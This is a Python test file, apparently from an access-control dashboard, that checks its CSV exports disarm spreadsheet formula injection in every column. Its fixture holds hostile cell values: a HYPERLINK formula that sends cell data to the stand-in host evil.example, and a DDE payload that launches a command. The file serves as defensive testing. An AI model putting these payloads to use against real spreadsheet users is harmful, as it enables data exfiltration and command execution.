"""Every cell of every CSV the central serves is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

from contract.payloads import format_utc, utc_now
from dashboard.core.csv_export import FORMULA_STARTS, csv_text, neutral_cell
from tests.support.running_central import RunningCentral

HOSTILE = {
    "event_id": '=HYPERLINK("http://evil.example/?"&A1)',
    "station_id": "+cmd|' /C calc'!A0",
    "gateway_id": "-2+3",
    "door_id": "@SUM(1+1)",
    "direction": "\tin",
    "credential": "\rqr",
    "worker_id": "=1+1",
    "decision": "granted",
    "reason": "granted",
}


def test_every_formula_start_is_disarmed_in_any_column() -> None:
    for start in FORMULA_STARTS:
        assert neutral_cell(start + "x") == "'" + start + "x"
    assert neutral_cell("w1001") == "w1001" and neutral_cell(None) == ""
    assert neutral_cell(-5) == "'-5", "a negative number is text a formula could start with"
    (row,) = csv.reader(io.StringIO(csv_text([["a", "=b", "c,d"]])))
    assert row == ["a", "'=b", "c,d"]


def test_entries_csv_neutralises_every_column(any_central: RunningCentral) -> None:
    """A row as an older release or another writer may have left it, with a formula in
    every text column, comes out of `/api/entries.csv` as text."""
    at = format_utc(utc_now())
    with any_central.service.store.db.transaction() as db:
        db.execute(
            "INSERT INTO events (event_id, kind, station_id, gateway_id, seq, at, "
            "received_at, payload) VALUES (?, 'access', ?, ?, 1, ?, ?, '{}')",
            (HOSTILE["event_id"], HOSTILE["station_id"], HOSTILE["gateway_id"], at, at),
        )
        db.execute(
            "INSERT INTO entries (event_id, station_id, gateway_id, seq, at, door_id, "
            "direction, credential, worker_id, decision, reason) "
            "VALUES (?, ?, ?, 1, ?, ?, ?, ?, ?, ?, ?)",
            (
                HOSTILE["event_id"],
                HOSTILE["station_id"],
                HOSTILE["gateway_id"],
                at,
                HOSTILE["door_id"],
                HOSTILE["direction"],
                HOSTILE["credential"],
                HOSTILE["worker_id"],
                HOSTILE["decision"],
                HOSTILE["reason"],
            ),
        )
    exported = any_central.http.get("/api/entries.csv")
    assert exported.status_code == 200, exported.text
    (row,) = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    for column, value in HOSTILE.items():
        expected = "'" + value if value.startswith(FORMULA_STARTS) else value
        assert row[column] == expected, column
    for column, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), (column, cell)
